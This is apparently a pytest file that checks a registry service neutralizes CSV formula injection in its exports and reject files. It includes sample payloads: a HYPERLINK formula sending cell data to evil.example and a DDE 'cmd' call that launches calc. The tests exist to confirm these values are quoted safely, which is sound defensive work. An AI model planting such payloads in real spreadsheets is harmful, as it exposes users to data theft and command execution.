"""Issue 18: exported and rejected CSVs hold no cell that Excel would run as a formula.

Every export path is tried over HTTP (the API export, the dashboard export, the dashboard's
reject file and the API import's ``reject_csv``), with the names the issue quotes and the
rest of OWASP's list, and each export must re-import as a no-op.
"""

from __future__ import annotations

import csv
import io

import pytest
from fastapi.testclient import TestClient

from service.auth.models import Role
from service.registry import csv_io
from tests.web.conftest import FormClient, add_staff

# Excel (and LibreOffice) treat a cell starting with these as a formula or a DDE call.
FORMULA_CHARS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")

HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "@SUM(1)",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]
# Full-width forms start formulas in Japanese Excel too. (Not seeded through the API: the CSV
# import folds them to ASCII with NFKC, so they would not re-import unchanged.)
FULL_WIDTH = ["＝1+1", "＋1", "－1", "＠SUM(1)"]


def _cells(body: bytes, encoding: str = "utf-8-sig") -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode(encoding), newline="")))


def _assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_CHARS), f"formula cell {cell!r} in {row}"


def _seed(client: TestClient, headers: dict[str, str]) -> None:
    """Residents created through the API, which keeps names as typed (tabs included)."""
    for n, name in enumerate(HOSTILE_NAMES, 1):
        response = client.post(
            "/api/v1/residents",
            headers=headers,
            json={
                "external_id": f"X{n}",
                "name": name,
                "phone": f"090-1234-56{n:02d}",
                "notes": "-要介護 =見守り",
            },
        )
        assert response.status_code == 201, response.text
    # A foreign number keeps its +, so it must come out neutralized and still readable.
    response = client.post(
        "/api/v1/residents",
        headers=headers,
        json={"external_id": "F1", "name": "Maria Santos", "phone": "+63 917 123 4567"},
    )
    assert response.status_code == 201, response.text


@pytest.mark.parametrize("encoding", ["utf-8-sig", "cp932"])
def test_api_export_neutralizes_formulas_and_reimports_unchanged(
    client: TestClient, coordinator, encoding: str
) -> None:
    _seed(client, coordinator.headers)
    response = client.get(
        "/api/v1/export/residents", headers=coordinator.headers, params={"encoding": encoding}
    )
    assert response.status_code == 200, response.text
    rows = _cells(response.content, encoding)
    _assert_no_formula(rows)
    by_id = {row[0]: row for row in rows[1:]}
    assert by_id["X1"][1] == "'" + HOSTILE_NAMES[0]
    assert by_id["X4"][1] == "'-2+3"
    # Japanese numbers as staff write them (Excel keeps 090-… as text, not 9012345601).
    assert by_id["X1"][3] == "090-1234-5601"
    # A foreign number: readable, with the neutralizing quote Excel hides.
    assert by_id["F1"][3] == "'+63 917 123 4567"
    assert by_id["X1"][-1] == "'-要介護 =見守り"

    # The round trip: re-importing the export changes nothing at all.
    reimport = client.post(
        "/api/v1/import/residents",
        headers=coordinator.headers,
        files={"file": ("residents.csv", response.content, "text/csv")},
    )
    assert reimport.status_code == 200, reimport.text
    report = reimport.json()
    assert report["errors"] == []
    assert report["created"] == 0 and report["updated"] == 0, reimport.text
    assert report["unchanged"] == len(HOSTILE_NAMES) + 1
    listed = client.get("/api/v1/residents", headers=coordinator.headers, params={"limit": 50})
    names = {r["external_id"]: r["name"] for r in listed.json()["data"]}
    assert names["X1"] == HOSTILE_NAMES[0]
    assert names["X4"] == "-2+3"


def test_dashboard_export_neutralizes_formulas(
    client: TestClient, coordinator, engine, forms: FormClient
) -> None:
    _seed(client, coordinator.headers)
    forms.login(add_staff(engine, Role.coordinator))
    response = forms.post("/registry/export", {"encoding": "utf-8-sig"})
    assert response.status_code == 200, response.text
    rows = _cells(response.content)
    _assert_no_formula(rows)
    assert len(rows) == len(HOSTILE_NAMES) + 2


REJECTS = (
    "管理番号,氏名,電話番号\r\n"
    'R1,"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",not a phone\r\n'
    "R2,@SUM(1),+cmd|' /C calc'!A0\r\n"
    "R3,山田 花子,090-1111-2222\r\n"
    "=R4,-2+3,090-1111-3333x\r\n"
    'R5,"\t=1+1",\t090\r\n'
    'R6,"\r@SUM(1)",bad\r\n'
)


def test_dashboard_reject_file_neutralizes_formulas(
    client: TestClient, engine, forms: FormClient
) -> None:
    forms.login(add_staff(engine, Role.coordinator))
    preview = forms.post(
        "/registry/import",
        {"kind": "residents"},
        files={"file": ("r.csv", REJECTS.encode("utf-8"), "text/csv")},
    )
    assert preview.status_code == 200, preview.text
    payload = preview.text.split('name="payload" value="', 1)[1].split('"', 1)[0]
    response = forms.post("/registry/import/rejects", {"kind": "residents", "payload": payload})
    assert response.status_code == 200, response.text
    rows = _cells(response.content)
    _assert_no_formula(rows)
    assert {row[0] for row in rows[1:]} == {"R1", "R2", "'=R4", "R5", "R6"}
    assert rows[-1][1] == "'\r@SUM(1)"


def test_api_reject_csv_neutralizes_formulas_and_reimports(client: TestClient, coordinator) -> None:
    response = client.post(
        "/api/v1/import/residents",
        headers=coordinator.headers,
        params={"apply_valid_rows": "true"},
        files={"file": ("r.csv", REJECTS.encode("utf-8"), "text/csv")},
    )
    assert response.status_code == 200, response.text
    reject = response.json()["reject_csv"]
    rows = list(csv.reader(io.StringIO(reject, newline="")))
    _assert_no_formula(rows)
    # Reading the reject file back restores what was sent: the quote is ours, not data.
    read = csv_io._read_rows(reject)
    assert read.rows[0][1][1] == '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    assert read.rows[2][1][:2] == ["=R4", "-2+3"]
    assert read.rows[-1][1][:2] == ["R6", "\r@SUM(1)"]


@pytest.mark.parametrize(
    "value", [*HOSTILE_NAMES, *FULL_WIDTH, "'=already", "''-x", "'plain", "", "a=b", "0-1"]
)
def test_neutralize_and_restore_are_inverse(value: str) -> None:
    out = csv_io.neutralize_cell(value)
    assert not out.startswith(FORMULA_CHARS)
    assert csv_io.restore_cell(out) == value
